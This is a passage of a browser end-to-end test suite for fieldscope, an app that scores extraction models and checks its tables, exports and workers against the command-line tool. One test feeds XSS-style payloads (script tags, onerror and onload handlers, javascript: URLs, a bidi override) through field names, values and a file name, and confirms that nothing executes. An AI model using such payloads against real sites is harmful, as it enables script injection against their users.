  assert.ok(statuses.some((s) => /^Parsing truth\.jsonl \(1 of 5, [\d.]+ MB\)…$/.test(s)), `parsing status shown: ${JSON.stringify(statuses)}`);
  assert.ok(statuses.includes('Evaluating 2500 documents × 3 models…'), `evaluating status shown: ${JSON.stringify(statuses)}`);
  const report = cliJson(['--truth', 'truth.jsonl', '--pred', 'good.jsonl', '--pred', 'conservative.jsonl', '--pred', 'aggressive.jsonl', '--schema', 'invoice.schema.json'], dir);
  assert.equal(report.documents, 2500);
  assertClose(await readTable(page, 'model-table'), expectedModelTable(report, 'macro_documents'), 'large dataset: model table');
  assertClose(await readTable(page, 'paradox-table'), expectedParadoxTable(report), 'large dataset: paradox table');
  // A change of a setting read before comparing (the absent values: "N/A"
  // and "" become values) evaluates anew, a slice at a time: meanwhile the
  // page runs other work (a timer here) and the progress bar moves; then
  // the numbers are the CLI's for the new setting.
  await page.evaluate(() => {
    window.__events = [];
    window.__tick = setInterval(() => {
      const bar = document.querySelector('[data-testid=busy-progress]');
      window.__events.push(bar ? [Number(bar.value), Number(bar.max)] : null);
    }, 5);
  });
  await page.fill('[data-testid=absent_values]', 'NOT_FOUND');
  await page.press('[data-testid=absent_values]', 'Enter');
  await page.waitForFunction(() => window.__events.some((e) => e));
  await page.waitForSelector('[data-testid=busy]', { state: 'detached' });
  const events = await page.evaluate(() => {
    clearInterval(window.__tick);
    return window.__events;
  });
  const partWay = events.filter((e) => e && e[0] > 0 && e[0] < e[1]);
  assert.ok(partWay.length >= 2, `the timer ran while the evaluation was part-way: ${JSON.stringify(events)}`);
  const all = ['--truth', 'truth.jsonl', '--pred', 'good.jsonl', '--pred', 'conservative.jsonl', '--pred', 'aggressive.jsonl', '--schema', 'invoice.schema.json', '--config'];
  writeFileSync(join(dir, 'absent.json'), '{"absent_values": ["NOT_FOUND"]}');
  const absent = cliJson([...all, 'absent.json'], dir);
  assert.notEqual(absent.models[2].micro.f1, report.models[2].micro.f1, 'the setting changes the numbers');
  assertClose(await readTable(page, 'model-table'), expectedModelTable(absent, 'macro_documents'), 'large dataset, absent values: model table');
  // A change of how strings are matched reuses what was prepared (only
  // the comparison runs): still the CLI's numbers.
  await page.selectOption('[data-testid="string_match.method"]', { label: 'exact after normalisation' });
  await page.waitForFunction(() => document.querySelector('[data-testid=summary]')?.textContent.includes('compared by exact'));
  await page.waitForSelector('[data-testid=busy]', { state: 'detached' });
  writeFileSync(join(dir, 'exact.json'), '{"absent_values": ["NOT_FOUND"], "string_match": {"method": "exact"}}');
  const exact = cliJson([...all, 'exact.json'], dir);
  assertClose(await readTable(page, 'model-table'), expectedModelTable(exact, 'macro_documents'), 'large dataset, absent values, exact match: model table');
  // The document browser computes the details when asked.
  const browserCard = page.locator('[data-testid=document-browser]');
  assert.equal(await browserCard.locator('tbody tr[data-doc]').count(), 0);
  await page.click('[data-testid=load-document-details]');
  await browserCard.locator('tbody tr[data-doc]').first().waitFor({ timeout: 60_000 });
  assert.equal(await browserCard.locator('tbody tr[data-doc]').count(), 25);
  assert.equal((await browserCard.locator('.count').textContent()).trim(), '2500 documents');
  assert.equal((await browserCard.locator('.pager span').textContent()).trim(), 'page 1 of 100');
  await page.screenshot({ path: join(SHOTS, '11-large-dataset.png') });
  assertNoErrors();
});

test('12. a panic leaves a readable panel with a reload link, not a dead page', async (t) => {
  const context = await browser.newContext({ viewport: { width: 1200, height: 800 } });
  t.after(() => context.close());
  const page = await context.newPage();
  const errors = [];
  page.on('pageerror', (e) => errors.push(String(e)));
  await page.goto(server.url + '/?panic-test');
  const panel = page.locator('[data-testid=panic-panel]');
  await panel.waitFor({ timeout: 30_000 });
  assert.equal(await panel.getAttribute('role'), 'alert');
  assert.equal((await panel.locator('h2').textContent()).trim(), 'fieldscope stopped because of an internal error');
  assert.match(await panel.locator('pre').textContent(), /^panicked at src\/app\/mod\.rs:\d+:\d+:\na test of the panic panel \(the page was opened with \?panic-test\)$/);
  assert.equal(await panel.locator('a').getAttribute('href'), server.url + '/?panic-test');
  assert.ok(errors.length >= 1, 'the panic also reaches the console as an uncaught error');
  await page.screenshot({ path: join(SHOTS, '12-panic-panel.png') });
});

test('13. a file over the size limit is refused with a message, the others still load', async (t) => {
  const { page, assertNoErrors } = await openApp(t);
  await clearFiles(page);
  // A sparse 301 MB file: refused before it is read, so never written out.
  const big = join(tmp, 'huge-predictions.jsonl');
  execFileSync('truncate', ['-s', '301M', big]);
  await page.setInputFiles('[data-testid=file-input]', [join(EXAMPLE, 'truth.jsonl'), join(EXAMPLE, 'careful.jsonl'), big]);
  await waitForLoaded(page, 2, ['careful']);
  const notice = page.locator('.notice');
  await notice.waitFor();
  assert.equal(
    (await notice.textContent()).trim(),
    'huge-predictions.jsonl is 315.6 MB and was not loaded: the browser app reads files up to 300.0 MB, since everything stays in this tab\'s memory. The command-line tool (fieldscope eval) has no such limit.',
  );
  assertNoErrors();
});

test('14. bootstrap intervals computed in the page, with progress and cancel, equal to the CLI', async (t) => {
  const { page, assertNoErrors } = await openApp(t);
  // The built-in example is `fieldscope synth --documents 50 --seed 19 --paradox --vendor-country` with its config.json (harness.writeExample).
  const dir = join(tmp, 'example50');
  writeBuiltIn(dir);
  const md = cliText(
    [...BUILT_IN_ARGS, '--bootstrap'],
    'markdown',
    dir,
  );
  // The interval table's rows in the CLI's Markdown, as cells (the
  // headline scores' table: the example has confidences, whose intervals
  // follow in a table of their own).
  const intervalRows = (text) => text
    .split('95 % bootstrap intervals of the confidence scores')[0]
    .split('\n')
    .filter((l) => /^\| (good|conservative|aggressive) \| \d\.\d{4} \[/.test(l))
    .map((l) => l.split('|').slice(1, -1).map((c) => c.trim()));
  const expected = intervalRows(md);
  assert.equal(expected.length, 3, md);
  // The page's example is exactly those files (the generator draws the same
  // numbers in wasm32 as natively).
  const exampleReport = cliJson(
    [...BUILT_IN_ARGS],
    dir,
  );
  assertClose(await readTable(page, 'paradox-table'), expectedParadoxTable(exampleReport), 'example: paradox table');
  assertClose(await readTable(page, 'model-table'), expectedModelTable(exampleReport, 'macro_documents'), 'example: model table');

  // Cancel: start, then stop it under way. The evaluation worker resamples
  // the example's 50 documents in a moment, so Cancel is clicked as soon
  // as the page has drawn the progress line (in the same page task), not
  // after a round trip of the test's. The line says so at the click; the
  // worker then lets go of the run (stopped, or its result dropped if it
  // had just finished), which settles the line.
  await startThen(page, 'bootstrap', { click: 'bootstrap-cancel' });
  const cancelled = await page.waitForSelector('[data-testid=bootstrap-cancelled]');
  assert.match(await cancelled.textContent(), /^Cancelled after \d+ resamples?\.$/);
  await page.waitForSelector('[data-testid=bootstrap-cancelled][data-settled]');

  // Before the intervals: no ± in the tables.
  assert.equal(await page.locator('[data-testid=model-table] td[data-low]').count(), 0);

  // Run to the end: the same numbers as the CLI.
  await page.click('[data-testid=bootstrap-start]');
  await page.waitForSelector('[data-testid=bootstrap-table] tbody tr', { timeout: 60_000 });
  const rows = await page.$$eval('[data-testid=bootstrap-table] tbody tr', (trs) =>
    trs.map((tr) => [...tr.querySelectorAll('th, td')].map((c) => c.textContent.trim())),
  );
  assert.deepEqual(rows, expected);
  const caption = await page.textContent('[data-testid=bootstrap-table] caption');
  assert.match(caption, /^95 % bootstrap intervals, \[low, high\] after each estimate \(1000 resamples of the 50 documents, seed 1; percentile method\)/);
  await page.locator('[data-testid=uncertainty]').screenshot({ path: join(SHOTS, '14-uncertainty.png') });
  // The exports now carry the intervals, as the CLI's --bootstrap does.
  const bootArgs = [...BUILT_IN_ARGS, '--bootstrap'];
  assert.equal((await download(page, 'export-markdown')).text, md, 'Markdown export = CLI --bootstrap');
  assert.ok((await download(page, 'export-html')).text === cliText(bootArgs, 'html', dir), 'HTML export = CLI --bootstrap, byte for byte');

  // The tables show ± half-width beside each headline number, the interval
  // in data-low / data-high equal to the CLI's --bootstrap JSON (same files,
  // same seed), the point estimate still in data-value.
  const boot = cliJson(
    [...BUILT_IN_ARGS, '--bootstrap'],
    dir,
  ).bootstrap;
  const names = ['good', 'conservative', 'aggressive'];
  for (const average of ['macro_documents', 'micro', 'macro_fields']) {
    await page.click(`[data-testid=average-${average}]`);
    await page.waitForSelector(`[data-testid=model-table][data-average=${average}]`);
    const shown = await readIntervals(page, 'model-table');
    const want = { precision: `${average}.precision`, recall: `${average}.recall`, f1: `${average}.f1` };
    assertClose(shown.map(({ model, cells }) => ({ model, cells: Object.fromEntries(Object.entries(cells).map(([k, c]) => [k, { value: c.value, low: c.low, high: c.high }])) })),
      expectedIntervals(boot, names, want), `model table intervals (${average})`);
    assertPlusMinus(shown, boot, (cell) => `${average}.${cell === 'f1' ? 'f1' : cell}`);
    // Only F1 carries †: P and R are not tested.
    for (const r of shown) for (const k of ['precision', 'recall']) assert.ok(!r.cells[k].text.endsWith('†'));
    assertClose(await readTable(page, 'model-table'), expectedModelTable(exampleReport, average), `model table values (${average})`);
  }
  const modelCaption = await page.textContent('[data-testid=model-table] caption');
  assert.match(modelCaption, / ± = half the width of the 95 % percentile bootstrap interval over documents \(1000 resamples of the 50 documents, seed 1; the interval itself in each cell's tooltip\)\. † = F1 significantly below the best model's \(paired bootstrap test, two-sided, Holm-adjusted over the model pairs, α = 0\.05\)\.$/);
  const paradox = await readIntervals(page, 'paradox-table');
  const micro = { precision: 'micro.precision', recall: 'micro.recall', f1: 'micro.f1', accuracy: 'micro.accuracy' };
  assertClose(paradox.map(({ model, cells }) => ({ model, cells: Object.fromEntries(Object.entries(cells).map(([k, c]) => [k, { value: c.value, low: c.low, high: c.high }])) })),
    expectedIntervals(boot, names, micro), 'paradox table intervals');
  assertPlusMinus(paradox.map((r) => ({ ...r, cells: { f1: r.cells.f1, accuracy: r.cells.accuracy } })), boot, (cell) => `micro.${cell}`);
  assertClose(await readTable(page, 'paradox-table'), expectedParadoxTable(exampleReport), 'paradox table values');
  assert.match(await page.textContent('[data-testid=paradox-table] caption'), /percentile bootstrap interval over documents \(1000 resamples of the 50 documents, seed 1;.*† = F1 or accuracy significantly below the best model's \(paired bootstrap test, two-sided, Holm-adjusted over the model pairs, α = 0\.05\)\.$/);
  const docScores = await readIntervals(page, 'document-scores');
  assertClose(docScores.map(({ model, cells }) => ({ model, cells: Object.fromEntries(Object.entries(cells).map(([k, c]) => [k, { value: c.value, low: c.low, high: c.high }])) })),
    expectedIntervals(boot, names, { document_extraction_score: 'document_extraction_score' }), 'extraction score intervals');
  assertPlusMinus(docScores, boot, () => 'document_extraction_score');
  const items = await readIntervals(page, 'items-table');
  assertClose(items.map(({ model, cells }) => ({ model, cells: Object.fromEntries(Object.entries(cells).map(([k, c]) => [k, { value: c.value, low: c.low, high: c.high }])) })),
    expectedIntervals(boot, names, { 'items.precision': 'items.precision', 'items.recall': 'items.recall', 'items.f1': 'items.f1' }), 'item intervals');
  assertPlusMinus(items.map((r) => ({ ...r, cells: { 'items.f1': r.cells['items.f1'] } })), boot, () => 'items.f1');
  // The model table back on macro over documents; a picture of the two tables with ±.
  await page.click('[data-testid=average-macro_documents]');
  await page.waitForSelector('[data-testid=model-table][data-average=macro_documents]');
  await page.locator('[data-testid=model-table]').screenshot({ path: join(SHOTS, '14-model-table-intervals.png') });
  await page.locator('[data-testid=paradox-table]').screenshot({ path: join(SHOTS, '14-paradox-table-intervals.png') });
  // The score chart now has error bars, and says so.
  const caption14 = await page.textContent('[data-testid=chart-metric_bars] figcaption');
  assert.match(caption14, /Error bars: 95 % percentile bootstrap interval \(1000 resamples of the 50 documents\)\./);
  await page.locator('[data-testid=chart-metric_bars]').screenshot({ path: join(SHOTS, '14-error-bars.png') });

  // A setting changed while a run is under way: that run belonged to the
  // old report, so it stops quietly (its panel is gone); a run on the new
  // report gives the CLI's intervals for the new setting.
  await startThen(page, 'bootstrap', { select: 'preset-select', value: 'exact' });
  await page.waitForFunction(() => document.querySelector('[data-testid=summary]')?.textContent.includes('preset exact'));
  assert.equal(await page.locator('[data-testid=bootstrap-progress]').count(), 0, 'the new report starts without a run');
  assert.equal(await page.locator('[data-testid=model-table] td[data-low]').count(), 0, 'no intervals of the old report');
  await page.click('[data-testid=bootstrap-start]');
  await page.waitForSelector('[data-testid=bootstrap-table] tbody tr', { timeout: 60_000 });
  const exactMd = cliText(
    [...BUILT_IN_ARGS, '--bootstrap', '--preset', 'exact'],
    'markdown',
    dir,
  );
  const exactRows = intervalRows(exactMd);
  assert.equal(exactRows.length, 3, exactMd);
  assert.notDeepEqual(exactRows, expected, 'the preset changes the intervals');
  assert.deepEqual(
    await page.$$eval('[data-testid=bootstrap-table] tbody tr', (trs) => trs.map((tr) => [...tr.querySelectorAll('th, td')].map((c) => c.textContent.trim()))),
    exactRows,
  );
  assertNoErrors();
});

test('15. hostile names and values stay text: nothing runs, nothing is injected', async (t) => {
  const { page, assertNoErrors } = await openApp(t);
  await clearFiles(page);
  const key = '<img src=x onerror="window.__pwned=1">';
  const value = '<script>window.__pwned=2</script>';
  const bidi = 'abc\u202Edef';
  const truth = [
    { id: 'd1', [key]: value, name: 'ACME', note: bidi },
    { id: 'd2', [key]: 'plain', name: '"><svg onload=window.__pwned=3>', note: 'x' },
  ];
  const pred = [
    { id: 'd1', [key]: `${value}!`, name: 'ACME', note: bidi },
    { id: 'd2', [key]: 'javascript:window.__pwned=4', name: '<iframe src=javascript:window.__pwned=5>', note: 'y' },
  ];
  const jsonl = (rows) => Buffer.from(rows.map((r) => JSON.stringify(r)).join('\n') + '\n').toString('base64');
  const modelFile = '<svg onload=window.__pwned=6>.jsonl';
  await dropFiles(page, [
    { name: 'truth.jsonl', b64: jsonl(truth) },
    { name: modelFile, b64: jsonl(pred) },
  ]);
  await waitForLoaded(page, 2, ['<svg onload=window.__pwned=6>']);
  // Open the first document so its values are in the DOM too.
  await page.locator('[data-testid=document-browser] tbody tr[data-doc="d1"] button').click();
  await page.waitForSelector('[data-testid=document-detail]');
  await page.waitForTimeout(300);
  const state = await page.evaluate(() => ({
    pwned: window.__pwned ?? null,
    injected: document.querySelectorAll('img[src="x"], img[onerror], svg[onload], iframe, script:not([type="module"]), [onerror], [onload]').length,
    scriptsWithPayload: [...document.querySelectorAll('script')].filter((s) => s.textContent.includes('__pwned')).length,
    bodyText: document.body.innerText,
  }));
  assert.equal(state.pwned, null, 'no payload ran');
  assert.equal(state.injected, 0, 'no element came from the data');
  assert.equal(state.scriptsWithPayload, 0);
  // The text is shown literally.
  const fields = await page.$$eval('[data-testid=field-table] tbody tr[data-field]', (trs) => trs.map((tr) => tr.dataset.field));
  assert.ok(fields.includes(key), `field named by the payload: ${JSON.stringify(fields)}`);
  const models = (await readTable(page, 'model-table')).map((r) => r.model);
  assert.deepEqual(models, ['<svg onload=window.__pwned=6>']);
  assert.ok(state.bodyText.includes(value), 'the script payload is shown as text in the document detail');
  // A bidirectional override cannot reorder what is shown: it is made visible.
  assert.ok(state.bodyText.includes('abc[U+202E]def'), 'the bidi override is shown as [U+202E]');
  assert.ok(!state.bodyText.includes('\u202E'), 'no raw bidi override on the page');
  // Charts: no element or handler from the data inside the inline SVGs.
  const chartHandlers = await page.$$eval('[data-testid=charts] svg *', (els) =>
    els.filter((el) => [...el.attributes].some((a) => a.name.startsWith('on')) || ['script', 'foreignObject', 'iframe'].includes(el.localName)).length,
  );
  assert.equal(chartHandlers, 0);
  await page.screenshot({ path: join(SHOTS, '15-hostile.png'), fullPage: false });
  assertNoErrors();
});

test('16. field weights: a metrics config with field_weights adds the weighted table, equal to the CLI', async (t) => {
  const { page, assertNoErrors } = await openApp(t);
  writeFileSync(join(tmp, 'weights_config.json'), JSON.stringify({ field_weights: { total: 3, 'vendor.name': 2, 'items[].amount': 0.5 } }));
  await clearFiles(page);
  await dropFiles(page, [
    ...(await Promise.all(EXAMPLE_FILES.map((f) => bytesOf(f)))),
    await bytesOf('weights_config.json', tmp),
  ]);
  await waitForLoaded(page, 5, ['careful', 'eager']);
  assert.equal((await fileEntries(page))['weights_config.json'].role, 'config');
  const report = cliJson([...EXAMPLE_ARGS, '--config', join(tmp, 'weights_config.json')]);
  const expected = report.models.map((m) => ({
    model: m.name,
    values: Object.fromEntries(['precision', 'recall', 'f1', 'accuracy'].map((k) => [`weighted_fields.${k}`, m.weighted_fields[k]])),
  }));
  assertClose(await readTable(page, 'weighted-table'), expected, 'weighted table');
  // The weights differ from 1, so the weighted F1 is not the unweighted one.
  assert.notEqual(report.models[0].weighted_fields.f1, report.models[0].macro_fields.f1);
  const caption = await page.textContent('[data-testid=weighted-table] caption');
  assert.match(caption, /Weights: items\[\]\.amount 0\.5, total 3\.0, vendor\.name 2\.0\.$/);
  await page.locator('[data-testid=weighted-table]').screenshot({ path: join(SHOTS, '16-weighted.png') });
  // Without the config the table is gone.
  await dropExample(page);
  assert.equal(await page.locator('[data-testid=weighted-table]').count(), 0);
  assertNoErrors();
});

test('17. schema validity comes from the schema worker: equal to the CLI, and a schema it rejects shows its error while the rest evaluates', async (t) => {
  const requests = [];
  const { page, context, assertNoErrors } = await openApp(t);
  context.on('request', (r) => requests.push(new URL(r.url()).pathname));
  // The page's own module carries no validator: the worker is a module of
  // its own (the example has a schema, so it was started at load).
  const modules = await page.evaluate(() => performance.getEntriesByType('resource').map((e) => new URL(e.name).pathname));
  assert.ok(modules.some((p) => /fieldscope-web-[0-9a-f]+_bg\.wasm$/.test(p)), `page module: ${modules}`);
  assert.ok(modules.some((p) => p.endsWith('/worker-loader.js')), `schema worker started: ${modules}`);

  // The document-level scores, which depend on validity, equal the CLI's
  // on the built-in example (= fieldscope synth --documents 50 --seed 19 --paradox),
  // whose aggressive model has schema-invalid predictions.
  const synth = join(tmp, 'synth50');
  writeBuiltIn(synth);
  const report = cliJson([...BUILT_IN_ARGS], synth);
  const metrics = ['document_extraction_score', 'numeric_precision', 'field_f1_partial', 'schema_validity_rate', 'exact_match_rate', 'cer'];
  const expected = report.models.map((m) => ({ model: m.name, values: Object.fromEntries(metrics.map((k) => [k, m[k]])) }));
  assertClose(await readTable(page, 'document-scores'), expected, 'document-level scores');
  assert.ok(report.models.some((m) => m.schema_validity_rate < 1), 'the example has invalid predictions');
  await page.locator('[data-testid=document-scores]').screenshot({ path: join(SHOTS, '17-document-scores.png') });

  // A schema that is JSON but not JSON Schema: the worker says so.
  writeFileSync(join(tmp, 'bad.schema.json'), JSON.stringify({ type: 'object', properties: { total: { type: 12 } } }));
  const cli = spawnSync(CLI, ['eval', ...EXAMPLE_ARGS.slice(0, -2), '--schema', join(tmp, 'bad.schema.json')], { cwd: EXAMPLE, encoding: 'utf8' });
  assert.equal(cli.status, 2, 'the CLI refuses the schema too');
  assert.match(cli.stderr, /the schema is not a valid JSON Schema \(draft-07\)/);
  await clearFiles(page);
  await dropFiles(page, [
    ...(await Promise.all(EXAMPLE_FILES.filter((f) => f !== 'schema.json').map((f) => bytesOf(f)))),
    await bytesOf('bad.schema.json', tmp),
  ]);
  await page.waitForSelector('[data-testid=file-entry][data-role=schema][data-status=error]', { timeout: 30_000 });
  await waitForLoaded(page, 4, ['careful', 'eager']);
  const entry = (await fileEntries(page))['bad.schema.json'];
  assert.match(entry.error, /^bad\.schema\.json: the schema is not a valid JSON Schema \(draft-07\): /);
  // The rest is evaluated as without a schema.
  const without = cliJson(EXAMPLE_ARGS.slice(0, -2));
  await assertTablesMatch(page, without, 'without the rejected schema');
  assert.deepEqual(
    (await readTable(page, 'document-scores')).map((r) => r.values.schema_validity_rate),
    without.models.map((m) => m.schema_validity_rate),
  );
  await await page.locator('aside.sidebar').screenshot({ path: join(SHOTS, '17-rejected-schema.png') });
  assert.ok(!requests.some((p) => p.includes('fieldscope-export')), 'no export worker was needed');
  assertNoErrors();
});

test('18. while the schema worker works the report is provisional (validity-dependent values and exports wait); if it cannot load, the rest of the report stays', async (t) => {
  const synth = join(tmp, 'synth50-provisional');
  writeBuiltIn(synth);
  const report = cliJson([...BUILT_IN_ARGS], synth);

  // The worker's module is held back until the test lets it through.
  const { page, errors, release } = await holdBack(t, browser, '**/fieldscope-schema_bg.wasm');
  await page.goto(server.url + '/');
  await page.waitForSelector('[data-testid=model-table] tr[data-model]', { timeout: 30_000 });
  await page.waitForSelector('[data-testid=validity-pending]');
  // Final already: the values that do not depend on validity.
  assertClose(await readTable(page, 'model-table'), expectedModelTable(report, 'macro_documents'), 'provisional model table');
  // Waiting: the document-level scores, each document's validity, the
  // report's exports, the bootstrap and the sweep.
  assert.equal(await page.locator('[data-testid=document-scores]').count(), 0);
  // Each document's details follow the provisional report in a message
  // of their own.
  await page.waitForSelector('[data-testid=document-browser] tbody tr[data-doc]');
  const validityCells = await page.$$eval('[data-testid=document-browser] tbody tr[data-doc] td:last-child', (tds) => tds.map((td) => td.textContent));
  assert.ok(validityCells.length > 0 && validityCells.every((c) => c === 'checking…'), `document validity: ${validityCells.slice(0, 3)}`);
  for (const id of ['export-json', 'export-markdown', 'export-html', 'bootstrap-start', 'sweep-start']) {
    assert.ok(await page.locator(`[data-testid=${id}]`).isDisabled(), `${id} waits`);
  }
  await page.screenshot({ path: join(SHOTS, '18-provisional.png') });
  release();
  await page.waitForSelector('[data-testid=document-scores]', { timeout: 30_000 });
  assert.equal(await page.locator('[data-testid=validity-pending]').count(), 0);
  assert.ok(!(await page.locator('[data-testid=export-markdown]').isDisabled()));
  assertClose(await readTable(page, 'model-table'), expectedModelTable(report, 'macro_documents'), 'final model table');
  const metrics = ['document_extraction_score', 'schema_validity_rate', 'exact_match_rate'];
  assertClose(
    await readTable(page, 'document-scores').then((rows) => rows.map((r) => ({ model: r.model, values: Object.fromEntries(metrics.map((k) => [k, r.values[k]])) }))),
    report.models.map((m) => ({ model: m.name, values: Object.fromEntries(metrics.map((k) => [k, m[k]])) })),
    'document-level scores once the validity arrived',
  );
  assert.deepEqual(errors, []);

  // A worker that cannot load: the report stays, the validity-dependent
  // values say why they are missing, and the exports stay off.
  const broken = await browser.newContext({ viewport: { width: 1400, height: 900 } });
  t.after(() => broken.close());
  await broken.route('**/fieldscope-schema_bg.wasm', (route) => route.abort());
  const page2 = await broken.newPage();
  const errors2 = [];
  page2.on('pageerror', (e) => errors2.push(String(e)));
  await page2.goto(server.url + '/');
  const failed = await page2.waitForSelector('[data-testid=validity-failed]', { timeout: 30_000 });
  assert.match(await failed.textContent(), /could not be checked against the JSON Schema \(the schema validator could not start \(failed: .+\)\)/);
  assertClose(await readTable(page2, 'model-table'), expectedModelTable(report, 'macro_documents'), 'model table without the worker');
  assert.ok(await page2.locator('[data-testid=export-csv]').isDisabled());
  await page2.locator('[data-testid=validity-failed]').screenshot({ path: join(SHOTS, '18-worker-failed.png') });
  assert.deepEqual(errors2, []);
});

test('19. the first drop of your own files replaces the built-in example; later drops add to them; "Load example" brings it back', async (t) => {
  const { page, assertNoErrors } = await openApp(t);
  assert.match((await page.textContent('[data-testid=summary]')).trim(), /^50 documents · 3 models\b/);
  // No clearing first: a person drops their files onto the example.
  await dropFiles(page, await Promise.all(EXAMPLE_FILES.map((n) => bytesOf(n))));
  await waitForLoaded(page, 4, ['careful', 'eager']);
  assertExampleEntries(await fileEntries(page));
  assert.match((await page.textContent('[data-testid=summary]')).trim(), /^3 documents · 2 models · preset standard\b/);
  assert.equal(await page.locator('[data-testid=warnings]').count(), 0, 'no warning: nothing of the example is left');
  await assertTablesMatch(page, cliJson(EXAMPLE_ARGS), 'files dropped onto the example');
  await page.screenshot({ path: join(SHOTS, '19-drop-replaced-example.png'), fullPage: true });

  // A second drop adds to the user's own files, as before.
  const careful = await bytesOf('careful.jsonl');
  await dropFiles(page, [{ name: 'careful2.jsonl', b64: careful.b64 }]);
  await waitForLoaded(page, 5, ['careful', 'eager', 'careful2']);

  // "Load example" brings the example back, in place of the user's files.
  await page.click('[data-testid=load-example]');
  await waitForLoaded(page, 6, ['good', 'conservative', 'aggressive']);
  assert.deepEqual(Object.keys(await fileEntries(page)).sort(), ['aggressive.jsonl', 'config.json', 'conservative.jsonl', 'good.jsonl', 'invoice.schema.json', 'truth.jsonl']);
  assertNoErrors();
});

test('20. an evaluation worker that panics: its reason in an alert panel, the files kept, and the next request restarts it with them (dropped files and a bundle\'s)', async (t) => {
  const { page, errors } = await openApp(t, { url: server.url + '/?worker-panic-test' });
  await dropFiles(page, await Promise.all(EXAMPLE_FILES.map((n) => bytesOf(n))));
  await waitForLoaded(page, 4, ['careful', 'eager']);
  const crash = async (shot) => {
    await page.click('[data-testid=worker-panic-test]');
    const panel = page.locator('[data-testid=worker-failed]');
    await panel.waitFor({ timeout: 20_000 });
    assert.equal(await panel.getAttribute('role'), 'alert');
    assert.match(
      await panel.locator('pre').textContent(),
      /^The evaluation stopped: panicked at src\/service\.rs:\d+:\d+:\na test of the evaluation worker's panic \(the page was opened with \?worker-panic-test\)$/,
    );
    // Nothing the user loaded is lost from the list.
    assertExampleEntries(await fileEntries(page));
    if (shot) await page.screenshot({ path: join(SHOTS, shot), fullPage: true });
  };

  // The panel's button starts a new worker with the dropped files.
  await crash('20-worker-failed.png');
  await page.click('[data-testid=worker-restart]');
  await waitForLoaded(page, 4, ['careful', 'eager']);
  assert.equal(await page.locator('[data-testid=worker-failed]').count(), 0);
  await assertTablesMatch(page, cliJson(EXAMPLE_ARGS), 'after a restart');

  // Any next request does too: a setting changed.
  await crash();
  await page.selectOption('[data-testid=preset-select]', 'exact');
  await page.waitForFunction(() => document.querySelector('[data-testid=summary]')?.textContent.includes('preset exact'));
  await waitForLoaded(page, 4, ['careful', 'eager']);
  const exact = cliJson([...EXAMPLE_ARGS, '--preset', 'exact']);
  assertClose(await readTable(page, 'model-table'), expectedModelTable(exact, 'macro_documents'), 'after a restart by a setting');

  // A bundle's files, which the page never had as files of its own, are
  // posted to the restarted worker too.
  const bundle = await download(page, 'export-bundle');
  await clearFiles(page);
  await dropFiles(page, [{ name: bundle.name, b64: Buffer.from(bundle.text).toString('base64') }]);
  await waitForLoaded(page, 4, ['careful', 'eager']);
  assert.deepEqual(JSON.parse(bundle.text).settings, { preset: 'exact' }, 'the bundle has the settings shown');
  assertClose(await readTable(page, 'model-table'), expectedModelTable(exact, 'macro_documents'), 'a bundle');
  await crash();
  await page.click('[data-testid=worker-restart]');
  await waitForLoaded(page, 4, ['careful', 'eager']);
  assertClose(await readTable(page, 'model-table'), expectedModelTable(exact, 'macro_documents'), 'a bundle after a restart');
  assertClose(await readTable(page, 'paradox-table'), expectedParadoxTable(exact), 'a bundle after a restart: paradox table');
  // The only errors are the worker's panics (the page itself never failed).
  for (const e of errors) assert.match(e, /unreachable|panicked/, e);
});

test('21. the example\'s report and documents are drawn from what was made when the app was built while the evaluation worker still loads; the worker\'s validity follows; a link with settings waits for the worker', async (t) => {
  const synth = join(tmp, 'synth50-opening');
  writeBuiltIn(synth);
  const args = [...BUILT_IN_ARGS];
  const report = cliJson(args, synth);
  const exact = cliJson([...args, '--preset', 'exact'], synth);

  // The evaluation worker's module is held back until the test lets it
  // through: whatever the page shows meanwhile comes from opening.cbor.
  const holdWorker = async () => {
    const held = await holdBack(t, browser, '**/fieldscope-eval_bg.wasm');
    held.page.on('console', (m) => m.type() === 'error' && held.errors.push(`console: ${m.text()}`));
    return held;
  };

  const { page, errors, release } = await holdWorker();
  await page.goto(server.url + '/');
  await page.waitForSelector('[data-testid=model-table] tr[data-model]', { timeout: 30_000 });
  assertClose(await readTable(page, 'model-table'), expectedModelTable(report, 'macro_documents'), 'the built report: model table');
  assertClose(await readTable(page, 'paradox-table'), expectedParadoxTable(report), 'the built report: paradox table');
  const names = await page.$$eval('[data-testid=file-entry] .file-name', (els) => els.map((e) => e.textContent));
  assert.deepEqual(names, ['truth.jsonl', 'good.jsonl', 'conservative.jsonl', 'aggressive.jsonl', 'invoice.schema.json', 'config.json']);
  // Provisional: the schema validity comes from the worker; the
  // documents, from the build's details (opening-details.cbor, fetched
  // once the report is painted): the first page of 25, in the report's
  // order, each document's validity still being checked.
  await page.waitForSelector('[data-testid=validity-pending]');
  await page.waitForSelector('[data-testid=document-browser] tbody tr[data-doc]', { state: 'attached', timeout: 30_000 });
  const builtRows = await page.$$eval('[data-testid=document-browser] tbody tr[data-doc]', (trs) => trs.map((tr) => tr.dataset.doc));
  const truthIds = readFileSync(join(synth, 'truth.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l).id);
  assert.deepEqual(builtRows, truthIds.slice(0, 25));
  assert.equal(
    (await page.locator('[data-testid=document-browser] .pager span').textContent()).trim(),
    'page 1 of 2',
  );
  assert.equal(await page.locator('[data-testid=details-coming]').count(), 0);
  assert.equal(await page.locator('[data-testid=document-scores]').count(), 0);
  await page.screenshot({ path: join(SHOTS, '21-built-opening.png') });

  release();
  await page.waitForSelector('[data-testid=document-browser] tbody tr[data-doc]', { state: 'attached', timeout: 30_000 });
  await page.waitForSelector('[data-testid=document-scores]', { timeout: 30_000 });
  assert.equal(await page.locator('[data-testid=validity-pending]').count(), 0);
  await assertTablesMatch(page, report, 'the worker\'s report after the built one');
  assert.deepEqual(errors, []);

  // Settings in the link: the built report (standard preset) is not it;
  // nothing is shown until the worker answers, then the exact preset's.
  const second = await holdWorker();
  await second.page.goto(`${server.url}/#settings=${encodeURIComponent(JSON.stringify({ preset: 'exact' }))}`);
  await second.page.waitForSelector('[data-testid=file-input]', { state: 'attached' });
  await second.page.waitForTimeout(500);
  assert.equal(await second.page.locator('[data-testid=model-table]').count(), 0, 'no report before the worker');
  second.release();
  await second.page.waitForFunction(() => document.querySelector('[data-testid=summary]')?.textContent.includes('preset exact'), null, { timeout: 30_000 });
  assertClose(await readTable(second.page, 'model-table'), expectedModelTable(exact, 'macro_documents'), 'settings from the link');
  assert.deepEqual(second.errors, []);
});

